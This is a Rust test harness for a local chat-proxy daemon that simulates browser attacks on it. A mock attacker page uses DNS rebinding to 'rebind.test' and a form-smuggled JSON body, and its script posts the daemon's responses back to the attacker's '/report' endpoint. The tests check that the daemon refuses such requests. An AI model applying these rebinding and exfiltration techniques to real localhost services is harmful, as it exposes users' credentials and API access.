//! The daemon, its backend, the attacker and the browser.

use std::fs;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use chatmock_simulator::{Settings, Simulator};
use tempfile::TempDir;
use tokio::runtime::{Builder, Runtime};

use crate::attacker::Attacker;
use crate::process::{Running, program};

/// How long a browser may take for anything.
const PATIENCE: Duration = Duration::from_secs(30);

/// The name that the attacker lets lead to this machine.
pub(crate) const REBOUND: &str = "rebind.test";

/// A question whose text a form can send too: the form puts the equals sign into it.
pub(crate) const QUESTION: &str = concat!(
    r#"{"model":"gpt-5.5","messages":[{"role":"user","content":"marzipan"}],"#,
    r#""metadata":{"form":"="}}"#
);

/// What stands before every attack: the daemon, the question, and a fetch that tells how it went.
const PRELUDE: &str = r#"
    const attempt = async (address, options) => {
        try {
            const answer = await fetch(address, options);
            return `${answer.type} ${answer.status} ${await answer.text()}`;
        } catch (fault) {
            return fault.name;
        }
    };
    const json = { method: "POST", headers: { "content-type": "application/json" }, body: QUESTION };
"#;

/// A daemon that is signed in at a backend of its own, so that what reaches the backend can be counted.
pub(crate) struct Harness {
    pub(crate) daemon: Running,
    simulator: Simulator,
    _home: TempDir,
    _runtime: Runtime,
}

impl Harness {
    pub(crate) fn new(flags: &[&str]) -> Self {
        let runtime = Builder::new_multi_thread().worker_threads(1).enable_all().build().unwrap();
        let simulator = runtime.block_on(Simulator::start(Settings::default())).unwrap();
        let home = TempDir::new().unwrap();
        fs::write(home.path().join("auth.json"), simulator.auth_json()).unwrap();
        // The list of models would be fetched by itself, and be counted.
        let mut command = program(&["--port", "0", "--model-sync", "false"]);
        command.args(["--upstream-url", &simulator.upstream_url()]);
        command.args(["--issuer", &simulator.issuer()]);
        command.args(flags).arg("--home").arg(home.path()).env("CHATMOCK_STORE", "file");
        let daemon = Running::start(&mut command);
        Self { daemon, simulator, _home: home, _runtime: runtime }
    }

    /// Shows a page of the attacker's in the browser; gives what its script, an async function, returns.
    pub(crate) fn visit(&self, attacker: Attacker, name: &str, script: &str) -> String {
        let (address, port) = (&self.daemon.address, attacker.port);
        // The report has a name of its own: connections of the page's name may by then lead to the daemon.
        let reported = format!("{}/report", attacker.origin());
        let page = format!(
            "<!doctype html><body><script type=module>\
             const DAEMON = \"{address}\", QUESTION = `{QUESTION}`;{PRELUDE}\
             const body = await (async () => {{ {script} }})();\
             await fetch(\"{reported}\", {{ method: \"POST\", body, mode: \"no-cors\" }});</script>"
        );
        let reports = attacker.serve(page, address);
        let _browser = Browser::start(&format!("http://{name}:{port}/"));
        reports.recv_timeout(PATIENCE).unwrap()
    }

    /// Waits until the daemon's log says that it refused a request.
    pub(crate) fn refused(&self, method: &str, path: &str) {
        self.daemon.line(&format!("method=\"{method}\" path=\"{path}\" status=403"));
    }

    /// All that the backend was asked so far.
    pub(crate) fn calls(&self) -> u64 {
        self.simulator.stats().requests.values().sum()
    }

    /// Looks that the backend heard of nothing, and that it hears of the same request of a program.
    pub(crate) fn untouched(&self, content_type: &str) {
        assert_eq!(self.calls(), 0);
        let headers = format!(
            "connection: close\r\ncontent-type: {content_type}\r\ncontent-length: {}",
            QUESTION.len()
        );
        let answer = self.ask("POST /v1/chat/completions", &headers, QUESTION);
        assert!(answer.starts_with("HTTP/1.1 200 "), "{answer}");
        assert!(answer.contains("You said: marzipan"), "{answer}");
        assert_eq!((self.calls(), self.simulator.stats().responses()), (1, 1));
    }

    /// Asks as a program does, which names no origin.
    pub(crate) fn ask(&self, line: &str, headers: &str, body: &str) -> String {
        let mut stream = TcpStream::connect(&self.daemon.address).unwrap();
        stream.set_read_timeout(Some(PATIENCE)).unwrap();
        let host = &self.daemon.address;
        let head = format!("{line} HTTP/1.1\r\nhost: {host}\r\n{headers}\r\n\r\n");
        stream.write_all(&[head.as_bytes(), body.as_bytes()].concat()).unwrap();
        let mut answer = String::new();
        stream.read_to_string(&mut answer).unwrap();
        answer
    }
}

/// A Chromium that shows a page until it is dropped.
struct Browser {
    child: Child,
    _profile: TempDir,
}

impl Browser {
    fn start(address: &str) -> Self {
        let profile = TempDir::new().unwrap();
        let child = chromium(&profile).arg(address).spawn().unwrap();
        Self { child, _profile: profile }
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        self.child.kill().ok();
        self.child.wait().ok();
        // Its helpers hold the same pipe: its end is theirs, and none writes into the profile any more.
        self.child.stdout.take().map(|mut pipe| pipe.read_to_end(&mut Vec::new()));
    }
}

/// The text of a page that holds no script.
pub(crate) fn shown(address: &str) -> String {
    let profile = TempDir::new().unwrap();
    let output = chromium(&profile).args(["--dump-dom", address]).output().unwrap();
    String::from_utf8(output.stdout).unwrap()
}

/// Chromium with the flags that it needs without windows, also for the user root in a container.
fn chromium(profile: &TempDir) -> Command {
    let mut command = Command::new("chromium");
    command.args([
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--no-first-run",
        "--no-proxy-server",
    ]);
    command.arg(format!("--host-resolver-rules=MAP {REBOUND} 127.0.0.1"));
    command.arg(format!("--user-data-dir={}", profile.path().display()));
    command.env("HOME", profile.path()).env("TMPDIR", profile.path());
    command.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::null());
    command
}
